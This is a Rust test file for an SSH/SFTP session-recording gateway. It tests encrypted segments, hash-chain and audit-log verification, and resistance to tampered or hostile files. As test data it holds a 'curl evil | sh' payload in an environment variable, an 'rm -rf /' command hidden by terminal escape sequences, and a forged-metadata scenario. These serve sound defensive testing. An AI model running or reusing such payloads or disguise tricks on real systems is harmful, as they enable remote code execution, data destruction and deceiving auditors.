    let mut m = stored_meta(&dir);
    m.end = None;
    std::fs::write(dir.join(format::META_FILE), serde_json::to_vec(&m).unwrap()).unwrap();
    let entries = manifest(&dir);
    let last = entries.last().unwrap().seq;
    let kept: Vec<String> = entries[..entries.len() - 1]
        .iter()
        .map(|e| serde_json::to_string(e).unwrap())
        .collect();
    std::fs::write(
        dir.join(format::MANIFEST_FILE),
        kept.join("\n") + "\n{\"seq\":",
    )
    .unwrap();
    std::fs::write(dir.join(format::segment_tmp_file(last + 1)), b"partial").unwrap();
    let v = reader::verify(&reader::open(&f.root, &id).unwrap());
    assert!(v.ok(), "{v:?}");
    assert!(!v.finished);
    assert_eq!(v.good.len() as u64, last);
    assert!(
        v.notes.iter().any(|n| n.contains("not in the manifest")),
        "{:?}",
        v.notes
    );
    assert!(
        v.notes.iter().any(|n| n.contains("still open")),
        "{:?}",
        v.notes
    );
    assert!(export_cast(&f, &id).contains("burst 1"));
}

#[tokio::test]
async fn retention_removes_only_expired_idle_recordings() {
    let f = fixture();
    let old = f.rec.start(meta(shell(), false)).await.unwrap();
    old.finish(None, "closed", 0, 0).await.unwrap();
    let running = f.rec.start(meta(shell(), false)).await.unwrap();
    let in_a_year = std::time::SystemTime::now() + Duration::from_secs(401 * 86400);
    assert_eq!(
        retention::sweep(&f.rec.inner, std::time::SystemTime::now()),
        0
    );
    assert_eq!(retention::sweep(&f.rec.inner, in_a_year), 1);
    assert!(!f.root.join(old.id()).exists());
    assert!(
        f.root.join(running.id()).exists(),
        "active recordings are kept"
    );
    running.finish(None, "closed", 0, 0).await.unwrap();
    assert_eq!(retention::sweep(&f.rec.inner, in_a_year), 1);
}

/// `require_tools` for unit tests: skip unless CI=true, where it fails.
fn have(tools: &[&str]) -> bool {
    let missing: Vec<&str> = tools
        .iter()
        .copied()
        .filter(|t| {
            std::process::Command::new("sh")
                .arg("-c")
                .arg(format!("command -v {t}"))
                .output()
                .map(|o| !o.status.success())
                .unwrap_or(true)
        })
        .collect();
    if missing.is_empty() {
        return true;
    }
    assert!(
        std::env::var("CI").as_deref() != Ok("true"),
        "missing under CI=true: {missing:?}"
    );
    eprintln!("skipping: missing {missing:?}");
    false
}

#[tokio::test]
async fn exported_cast_is_accepted_by_asciinema_cat_and_segments_by_age() {
    if !have(&["asciinema", "script", "age"]) {
        return;
    }
    let f = fixture();
    let r = f.rec.start(meta(shell(), false)).await.unwrap();
    r.output(b("colour \x1b[31mred\x1b[0m and ünïcödé\r\n".as_bytes()))
        .await
        .unwrap();
    r.resize(120, 40).await.unwrap();
    r.output(b(b"second line\r\n")).await.unwrap();
    r.finish(Some(0), "closed", 0, 0).await.unwrap();
    let cast = f._tmp.path().join("out.cast");
    std::fs::write(&cast, export_cast(&f, r.id())).unwrap();
    // asciinema cat needs a terminal: run it under script(1).
    let out = std::process::Command::new("script")
        .args([
            "-qec",
            &format!("asciinema cat {}", cast.display()),
            "/dev/null",
        ])
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    assert!(
        text.contains("ünïcödé") && text.contains("second line"),
        "{text}"
    );
    // Stock age decrypts a segment with the ssh key.
    let seg = f.root.join(r.id()).join("000001.age");
    let out = std::process::Command::new("age")
        .arg("-d")
        .arg("-i")
        .arg(&f.keys.ssh)
        .arg(&seg)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let plain = String::from_utf8(out.stdout).unwrap();
    assert!(plain.contains("second line"), "{plain}");
}

#[tokio::test]
async fn a_shell_without_a_pty_size_gets_a_playable_default() {
    let f = fixture();
    let kind = RecordingKind::Shell {
        term: String::new(),
        cols: 0,
        rows: 0,
    };
    let r = f.rec.start(meta(kind, false)).await.unwrap();
    r.output(b(b"no pty\n")).await.unwrap();
    r.finish(None, "closed", 0, 0).await.unwrap();
    let cast = export_cast(&f, r.id());
    let header: Value = serde_json::from_str(cast.lines().next().unwrap()).unwrap();
    assert_eq!(
        (header["width"].as_u64(), header["height"].as_u64()),
        (Some(80), Some(24))
    );
    assert!(header.get("env").is_none(), "{header}");
}

#[tokio::test]
async fn the_audit_check_reads_journald_json_too() {
    let f = fixture();
    let id = recording_with_segments(&f, 1).await;
    let entries = manifest(&f.root.join(&id));
    // `journalctl -o json`: tracing-journald's F_ prefix, numbers as strings.
    let mut log = String::new();
    for e in &entries {
        let chain = if e.seq == 1 {
            "00".repeat(32)
        } else {
            e.chain.clone()
        };
        log.push_str(
            &serde_json::json!({"F_EVENT": "recording.segment", "F_RECORDING_ID": id,
                "F_SEQ": e.seq.to_string(), "F_CHAIN": chain, "MESSAGE": "x"})
            .to_string(),
        );
        log.push('\n');
    }
    log.push_str("not json\n");
    let index = AuditIndex::from_reader(log.as_bytes()).unwrap();
    let stored = reader::open(&f.root, &id).unwrap();
    let mut v = reader::verify(&stored);
    index.check(&stored, &mut v);
    assert_eq!(v.problems.len(), 1, "{:?}", v.problems);
    assert!(v.problems[0].contains("segment 1 (000001.age): chain hash differs from the audit log"));
}

/// Regression: sftp data that yields no operation (the middle of a long
/// READ) marks the segment active but leaves nothing to seal. The time
/// seal then found nothing, kept its deadline in the past and the writer
/// flushed in a loop without reading its queue: a 1 GiB `sftp get`
/// stalled after a few seconds (found by the benchmark).
#[tokio::test]
async fn sftp_data_without_operations_keeps_the_queue_moving_past_a_time_seal() {
    let f = fixture();
    f.rec
        .set_segment_interval_for_tests(Duration::from_millis(30));
    let r = f.rec.start(meta(RecordingKind::Sftp, false)).await.unwrap();
    let u32b = |v: u32| v.to_be_bytes().to_vec();
    r.input(b(&sftp_packet(1, &[&u32b(3)]))).await.unwrap();
    r.output(b(&sftp_packet(2, &[&u32b(3)]))).await.unwrap();
    // One huge DATA reply (id 7), fed in pieces: no operation until it ends.
    let body_len: u32 = 64 * 1024 * 1024;
    let mut head = (body_len + 9).to_be_bytes().to_vec();
    head.push(103);
    head.extend(u32b(7));
    head.extend(u32b(body_len));
    r.output(b(&head)).await.unwrap();
    let piece = vec![0x5au8; 32 * 1024];
    let start = std::time::Instant::now();
    let fed = tokio::time::timeout(Duration::from_secs(20), async {
        let mut sent = 0usize;
        while sent < body_len as usize {
            r.output(b(&piece)).await.unwrap();
            sent += piece.len();
            if sent % (4 * 1024 * 1024) == 0 {
                // Let the time seal come due with nothing to seal.
                tokio::time::sleep(Duration::from_millis(40)).await;
            }
        }
    })
    .await;
    assert!(
        fed.is_ok(),
        "writer stopped reading its queue after {:?}",
        start.elapsed()
    );
    r.finish(Some(0), "closed", 0, u64::from(body_len))
        .await
        .unwrap();
}

// ---- record_input modes, environment, meta.json binding, hostile files ----

fn exec_meta(command: &[u8], mode: crate::config::RecordInput, pty: bool) -> RecordingMeta {
    RecordingMeta {
        record_input: mode,
        pty,
        ..meta(
            RecordingKind::Exec {
                command: command.to_vec(),
            },
            false,
        )
    }
}

/// A finished exec recording of `meta` that read `stdin` and printed "out".
async fn finished_exec(f: &Fixture, m: RecordingMeta, stdin: &[u8]) -> String {
    let r = f.rec.start(m).await.unwrap();
    r.input(b(stdin)).await.unwrap();
    r.output(b(b"out\n")).await.unwrap();
    r.finish(Some(0), "closed", stdin.len() as u64, 4)
        .await
        .unwrap();
    r.id().to_string()
}

#[test]
fn input_is_stored_per_mode_kind_and_pty() {
    use crate::config::RecordInput::{All, Exec, None};
    let case = |kind: RecordingKind, mode, pty| {
        RecordingMeta {
            record_input: mode,
            pty,
            ..meta(kind, false)
        }
        .stores_input()
    };
    let exec = || RecordingKind::Exec {
        command: b"sh".to_vec(),
    };
    // "exec": the stdin of a channel without a PTY, nothing else.
    assert!(case(exec(), Exec, false));
    assert!(case(shell(), Exec, false), "ssh host < script.sh");
    assert!(!case(exec(), Exec, true), "keystrokes of ssh -t host cmd");
    assert!(!case(shell(), Exec, true), "shell keystrokes");
    assert!(!case(RecordingKind::Sftp, Exec, false), "file contents");
    assert!(!case(RecordingKind::Sftp, All, false), "file contents");
    // "all": keystrokes too; "none": nothing.
    assert!(case(shell(), All, true) && case(exec(), All, true));
    assert!(!case(exec(), None, false) && !case(shell(), None, true));
    assert_eq!(crate::config::RecordInput::default(), Exec);
}

#[tokio::test]
async fn exec_stdin_is_recorded_by_default_and_shell_keystrokes_are_not() {
    use crate::config::RecordInput;
    let f = fixture();
    let script = b"echo from-the-script\nrm -rf /tmp/x\n";
    let id = finished_exec(&f, exec_meta(b"sh", RecordInput::Exec, false), script).await;
    let ev = show_json(&f, &id, &f.keys.ssh);
    assert_eq!(stream_bytes(&ev, "input"), script);
    assert_eq!(ev[0]["record_input"], true);
    assert_eq!(ev[0]["record_input_mode"], "exec");
    // The same under "none": not stored.
    let id = finished_exec(&f, exec_meta(b"sh", RecordInput::None, false), script).await;
    assert!(stream_bytes(&show_json(&f, &id, &f.keys.ssh), "input").is_empty());
    // A PTY shell under the default: keystrokes (a password) not stored.
    let r = f
        .rec
        .start(RecordingMeta {
            record_input: RecordInput::Exec,
            pty: true,
            ..meta(shell(), false)
        })
        .await
        .unwrap();
    r.input(b(b"hunter2\r")).await.unwrap();
    r.finish(Some(0), "closed", 8, 0).await.unwrap();
    let ev = show_json(&f, r.id(), &f.keys.ssh);
    assert!(stream_bytes(&ev, "input").is_empty());
    assert_eq!(ev[0]["record_input"], false);
}

#[tokio::test]
async fn allowed_environment_variables_are_in_the_sealed_header_with_their_values() {
    let f = fixture();
    let m = RecordingMeta {
        env: vec![
            ("LC_PAYLOAD".into(), "curl evil | sh".into()),
            ("LANG".into(), "C.UTF-8".into()),
        ],
        ..exec_meta(b"sh -c \"$LC_PAYLOAD\"", Default::default(), false)
    };
    let id = finished_exec(&f, m, b"").await;
    let ev = show_json(&f, &id, &f.keys.ssh);
    assert_eq!(
        ev[0]["env"],
        serde_json::json!([["LC_PAYLOAD", "curl evil | sh"], ["LANG", "C.UTF-8"]])
    );
    // In every sealed segment's header, and not in the plaintext metadata.
    let cast = export_cast(&f, &id);
    let header: Value = serde_json::from_str(cast.lines().next().unwrap()).unwrap();
    assert_eq!(header["gatehouse"]["env"][0][1], "curl evil | sh");
    let on_disk = std::fs::read_to_string(f.root.join(&id).join(format::META_FILE)).unwrap();
    assert!(!on_disk.contains("curl evil"));
    let text = show_text(&f, &id);
    assert!(
        text.contains("env:      LC_PAYLOAD=curl evil | sh"),
        "{text}"
    );
}

fn show_text(f: &Fixture, id: &str) -> String {
    let stored = reader::open(&f.root, id).unwrap();
    let ids = reader::load_identities(&f.keys.ssh).unwrap();
    let mut out = Vec::new();
    export::show(&stored, &ids, false, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

fn verify_problems(f: &Fixture, id: &str) -> Vec<String> {
    reader::verify(&reader::open(&f.root, id).unwrap()).problems
}

#[tokio::test]
async fn meta_json_edited_to_blame_someone_else_fails_verify_naming_meta_json() {
    let f = fixture();
    let id = finished_exec(&f, exec_meta(b"id", Default::default(), false), b"").await;
    let dir = f.root.join(&id);
    let original = std::fs::read(dir.join(format::META_FILE)).unwrap();
    assert!(verify_problems(&f, &id).is_empty());
    // The binding is in segment 0's manifest entry and in the audit event.
    let digest = hex::encode(format::meta_sha256(&stored_meta(&dir)));
    assert_eq!(manifest(&dir)[0].meta_sha256.as_deref(), Some(&*digest));
    let started = serde_json::json!({
        "event": "recording.started", "recording_id": id, "user": "alice",
        "login": "deploy", "target": "web-1", "meta_sha256": digest,
    });
    let index = AuditIndex::parse(&started.to_string());

    let mut m = stored_meta(&dir);
    m.user = "bob".into();
    std::fs::write(
        dir.join(format::META_FILE),
        serde_json::to_vec_pretty(&m).unwrap(),
    )
    .unwrap();
    let p = verify_problems(&f, &id);
    assert!(
        p.iter()
            .any(|p| p.starts_with("meta.json: altered") && p.contains("user bob")),
        "{p:?}"
    );
    // With the audit log: named too.
    let stored = reader::open(&f.root, &id).unwrap();
    let mut v = reader::verify(&stored);
    index.check(&stored, &mut v);
    assert!(
        v.problems.iter().any(|p| p.contains("recording.started")
            && p.contains("user bob where the audit log says alice")),
        "{:?}",
        v.problems
    );
    // The end reason is checked against recording.finished.
    let finished = serde_json::json!({
        "event": "recording.finished", "recording_id": id, "segments": 2,
        "chain": manifest(&dir).last().unwrap().chain, "reason": "closed",
    });
    let both = AuditIndex::parse(&format!("{started}\n{finished}"));
    let mut m2 = stored_meta(&dir);
    m2.user = "alice".into();
    m2.end.as_mut().unwrap().reason = "session reached its maximum length".into();
    std::fs::write(
        dir.join(format::META_FILE),
        serde_json::to_vec(&m2).unwrap(),
    )
    .unwrap();
    let stored2 = reader::open(&f.root, &id).unwrap();
    let mut v = reader::verify(&stored2);
    assert!(v.ok(), "the end is not in the chain: {:?}", v.problems);
    both.check(&stored2, &mut v);
    assert!(
        v.problems
            .iter()
            .any(|p| p.contains("end reason") && p.contains("recording.finished")),
        "{:?}",
        v.problems
    );
    std::fs::write(dir.join(format::META_FILE), serde_json::to_vec(&m).unwrap()).unwrap();
    // And the tools with a key refuse it.
    let ids = reader::load_identities(&f.keys.ssh).unwrap();
    let err = export::export(&stored, &ids, &mut Vec::new()).unwrap_err();
    assert!(err.to_string().contains("meta.json"), "{err}");

    // The start time and the source are covered as well.
    for edit in [
        |m: &mut format::Meta| m.started = "2020-01-01T00:00:00Z".into(),
        |m: &mut format::Meta| m.source = "10.9.9.9:22".into(),
        |m: &mut format::Meta| m.started_unix_ms += 1,
    ] {
        let mut m: format::Meta = serde_json::from_slice(&original).unwrap();
        edit(&mut m);
        std::fs::write(dir.join(format::META_FILE), serde_json::to_vec(&m).unwrap()).unwrap();
        assert!(
            verify_problems(&f, &id)
                .iter()
                .any(|p| p.starts_with("meta.json: altered")),
            "{m:?}"
        );
    }
    std::fs::write(dir.join(format::META_FILE), &original).unwrap();
    assert!(verify_problems(&f, &id).is_empty());
}

#[tokio::test]
async fn meta_json_edited_with_a_consistently_rewritten_chain_is_caught_by_the_audit_log_and_the_key(
) {
    let f = fixture();
    let id = finished_exec(&f, exec_meta(b"id", Default::default(), false), b"").await;
    let dir = f.root.join(&id);
    let digest = hex::encode(format::meta_sha256(&stored_meta(&dir)));
    // Root on the gateway blames bob and rewrites the manifest so that the
    // keyless check passes: new meta hash, chain recomputed.
    let mut m = stored_meta(&dir);
    m.user = "bob".into();
    let new_digest = format::meta_sha256(&m);
    let mut prev = format::genesis_bound(&id, &new_digest);
    let mut lines = Vec::new();
    for mut e in manifest(&dir) {
        if e.seq == 0 {
            e.meta_sha256 = Some(hex::encode(new_digest));
        }
        let c = format::chain_next(&id, e.seq, &prev, &format::parse_hash(&e.sha256).unwrap());
        e.chain = hex::encode(c);
        prev = c;
        lines.push(serde_json::to_string(&e).unwrap());
    }
    m.end.as_mut().unwrap().final_chain = hex::encode(prev);
    std::fs::write(dir.join(format::MANIFEST_FILE), lines.join("\n") + "\n").unwrap();
    std::fs::write(dir.join(format::META_FILE), serde_json::to_vec(&m).unwrap()).unwrap();
    assert!(verify_problems(&f, &id).is_empty(), "consistent rewrite");
    let started = serde_json::json!({
        "event": "recording.started", "recording_id": id, "user": "alice",
        "meta_sha256": digest,
    });
    let stored = reader::open(&f.root, &id).unwrap();
    let mut v = reader::verify(&stored);
    AuditIndex::parse(&started.to_string()).check(&stored, &mut v);
    assert!(
        v.problems
            .iter()
            .any(|p| p.starts_with("meta.json: differs")),
        "{:?}",
        v.problems
    );
    // The sealed header (which needs the auditors' key to rewrite) disagrees.
    let ids = reader::load_identities(&f.keys.ssh).unwrap();
    let err = export::show(&stored, &ids, false, &mut Vec::new()).unwrap_err();
    assert!(err.to_string().contains("failed verification"), "{err}");
}

#[tokio::test]
async fn a_format_2_recording_without_a_meta_hash_verifies_with_a_note() {
    let f = fixture();
    let id = finished_exec(&f, exec_meta(b"id", Default::default(), false), b"").await;
    let dir = f.root.join(&id);
    // As gatehouse-recording/2 wrote it: plain genesis, no meta hash.
    let mut prev = format::genesis(&id);
    let mut lines = Vec::new();
    for mut e in manifest(&dir) {
        e.meta_sha256 = None;
        let c = format::chain_next(&id, e.seq, &prev, &format::parse_hash(&e.sha256).unwrap());
        e.chain = hex::encode(c);
        prev = c;
        lines.push(serde_json::to_string(&e).unwrap());
    }
    let mut m = stored_meta(&dir);
    m.format = "gatehouse-recording/2".into();
    m.end.as_mut().unwrap().final_chain = hex::encode(prev);
    std::fs::write(dir.join(format::MANIFEST_FILE), lines.join("\n") + "\n").unwrap();
    std::fs::write(dir.join(format::META_FILE), serde_json::to_vec(&m).unwrap()).unwrap();
    let v = reader::verify(&reader::open(&f.root, &id).unwrap());
    assert!(v.ok(), "{:?}", v.problems);
    assert!(
        v.notes
            .iter()
            .any(|n| n.contains("not covered by the hash chain")),
        "{:?}",
        v.notes
    );
    // Format 3 metadata with the hash stripped from the manifest is a problem.
    m.format = format::FORMAT.into();
    std::fs::write(dir.join(format::META_FILE), serde_json::to_vec(&m).unwrap()).unwrap();
    assert!(
        verify_problems(&f, &id)
            .iter()
            .any(|p| p.contains("binds no metadata hash")),
        "{:?}",
        verify_problems(&f, &id)
    );
}

fn mkfifo(path: &Path) {
    let st = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .unwrap();
    assert!(st.success());
}

/// Runs `f` on a thread and fails if it does not return within 10 s.
fn within_10s<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(f());
    });
    rx.recv_timeout(Duration::from_secs(10))
        .expect("hung on a hostile file")
}

#[tokio::test]
async fn a_segment_that_is_a_symlink_to_dev_zero_is_damage_by_name_not_hashed_for_ever() {
    let f = fixture();
    let id = recording_with_segments(&f, 2).await;
    let seg = f.root.join(&id).join(format::segment_file(1));
    std::fs::remove_file(&seg).unwrap();
    std::os::unix::fs::symlink("/dev/zero", &seg).unwrap();
    let root = f.root.clone();
    let p = within_10s(move || reader::verify(&reader::open(&root, &id).unwrap()).problems);
    assert!(
        p.iter()
            .any(|p| p.contains("segment 1 (000001.age): damaged: is a symbolic link")),
        "{p:?}"
    );
}

#[tokio::test]
async fn fifos_in_a_recording_do_not_hang_verify_or_show() {
    let f = fixture();
    let id = recording_with_segments(&f, 2).await;
    let dir = f.root.join(&id);
    let seg = dir.join(format::segment_file(1));
    std::fs::remove_file(&seg).unwrap();
    mkfifo(&seg);
    let (root, id2) = (f.root.clone(), id.clone());
    let p = within_10s(move || reader::verify(&reader::open(&root, &id2).unwrap()).problems);
    assert!(
        p.iter()
            .any(|p| p.contains("segment 1 (000001.age): damaged: is a FIFO")),
        "{p:?}"
    );
    let (root, id2, key) = (f.root.clone(), id.clone(), f.keys.ssh.clone());
    let err = within_10s(move || {
        let stored = reader::open(&root, &id2).unwrap();
        let ids = reader::load_identities(&key).unwrap();
        export::show(&stored, &ids, false, &mut Vec::new())
            .unwrap_err()
            .to_string()
    });
    assert!(err.contains("is a FIFO"), "{err}");
    // meta.json and the manifest as FIFOs.
    for name in [format::META_FILE, format::MANIFEST_FILE] {
        let path = dir.join(name);
        let saved = std::fs::read(&path).unwrap();
        std::fs::remove_file(&path).unwrap();
        mkfifo(&path);
        let (root, id2) = (f.root.clone(), id.clone());
        let p = within_10s(move || reader::verify(&reader::open(&root, &id2).unwrap()).problems);
        assert!(
            p.iter().any(|p| p.contains(name) && p.contains("FIFO")),
            "{name}: {p:?}"
        );
        std::fs::remove_file(&path).unwrap();
        std::fs::write(&path, saved).unwrap();
    }
}

#[tokio::test]
async fn a_segment_over_its_bound_is_reported_unread_and_a_symlinked_recording_is_refused() {
    let f = fixture();
    let id = recording_with_segments(&f, 2).await;
    let dir = f.root.join(&id);
    let seg = dir.join(format::segment_file(1));
    // Sparse: 1 TiB that would take hours to hash.
    std::fs::OpenOptions::new()
        .write(true)
        .open(&seg)
        .unwrap()
        .set_len(1 << 40)
        .unwrap();
    let (root, id2) = (f.root.clone(), id.clone());
    let p = within_10s(move || reader::verify(&reader::open(&root, &id2).unwrap()).problems);
    assert!(
        p.iter()
            .any(|p| p.contains("segment 1 (000001.age): replaced") && p.contains("not read")),
        "{p:?}"
    );
    // A manifest claiming a huge size does not raise the bound.
    let mut entries = manifest(&dir);
    entries[1].size = 1 << 40;
    let lines: Vec<String> = entries
        .iter()
        .map(|e| serde_json::to_string(e).unwrap())
        .collect();
    std::fs::write(dir.join(format::MANIFEST_FILE), lines.join("\n") + "\n").unwrap();
    let (root, id2) = (f.root.clone(), id.clone());
    let p = within_10s(move || reader::verify(&reader::open(&root, &id2).unwrap()).problems);
    assert!(
        p.iter()
            .any(|p| p.contains("segment 1 (000001.age): the manifest claims")),
        "{p:?}"
    );
    let link = f.root.join("20990101T000000Z-link");
    std::os::unix::fs::symlink(&dir, &link).unwrap();
    let err = reader::open(&f.root, "20990101T000000Z-link").unwrap_err();
    assert!(err.to_string().contains("symbolic link"), "{err}");
    assert!(!reader::list(&f.root)
        .unwrap()
        .iter()
        .any(|s| s.id.ends_with("-link")));
}

#[tokio::test]
async fn command_and_metadata_escapes_never_reach_the_auditors_terminal() {
    let f = fixture();
    let command = b"rm -rf / #\r\x1b[2K\x1b[1A\x1b[2Kuptime";
    let id = finished_exec(&f, exec_meta(command, Default::default(), false), b"").await;
    let cast = export_cast(&f, &id);
    let mut lines = cast.lines();
    let header: Value = serde_json::from_str(lines.next().unwrap()).unwrap();
    // Exact bytes in the metadata.
    assert_eq!(
        header["gatehouse"]["command"].as_str().unwrap().as_bytes(),
        command
    );
    let first: Value = serde_json::from_str(lines.next().unwrap()).unwrap();
    let shown = first[2].as_str().unwrap();
    assert!(shown.starts_with("$ rm -rf / #"), "{shown}");
    let body = shown.strip_suffix("\r\n").unwrap();
    assert!(!body.contains('\x1b') && !body.contains('\r'), "{shown:?}");
    assert!(body.contains("\\r\\u{1b}[2K"), "{shown:?}");
    // play writes the same escaped line.
    let stored = reader::open(&f.root, &id).unwrap();
    let ids = reader::load_identities(&f.keys.ssh).unwrap();
    let mut played = Vec::new();
    export::play(&stored, &ids, 100.0, Duration::ZERO, &mut played).unwrap();
    let played = String::from_utf8(played).unwrap();
    assert!(played.starts_with("$ rm -rf / #\\r\\u{1b}"), "{played:?}");
    // Not the command: the output the target printed, replayed as it was.

    // Crafted meta.json fields (the meta hash then fails, but the tools
    // still print them): escaped in show's summary.
    let dir = f.root.join(&id);
    let mut m = stored_meta(&dir);
    m.started = "2026\x1b[2J\r".into();
    m.end.as_mut().unwrap().ended = "x\x1b]0;pwned\x07".into();
    m.end.as_mut().unwrap().reason = "r\x1b[1A".into();
    let v = reader::verify(&reader::open(&f.root, &id).unwrap());
    let stored = reader::Stored {
        meta: Ok(m),
        ..reader::open(&f.root, &id).unwrap()
    };
    for line in export::summary_for_tests(&stored, &v) {
        assert!(
            !line.contains('\x1b') && !line.contains('\r') && !line.contains('\x07'),
            "{line:?}"
        );
    }
}

/// Database session recordings.
#[path = "db_tests.rs"]
mod db;
